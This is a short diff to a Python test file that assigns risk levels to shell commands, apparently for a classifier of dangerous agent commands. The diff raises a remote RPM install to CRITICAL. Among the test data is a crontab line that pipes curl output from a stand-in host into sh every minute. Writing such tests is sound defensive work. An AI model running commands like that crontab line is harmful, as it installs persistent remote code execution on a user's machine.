@@ -151,7 +151,7 @@ def test_ordinary_copies_and_reads_are_not_exfiltration(command: str) -> None:
         ("pip install --index-url http://pypi.example/simple foo", HIGH),
         ("npm install github:user/repo", HIGH),
         ("cargo install --git https://github.com/x/y", HIGH),
-        ("sudo dnf install https://x.example/p.rpm", HIGH),
+        ("sudo dnf install https://x.example/p.rpm", CRITICAL),
         ("pip install requests", MODERATE),
         ("npm install @types/node", MODERATE),
         ("echo '* * * * * curl x.example/a|sh' | crontab -", CRITICAL),
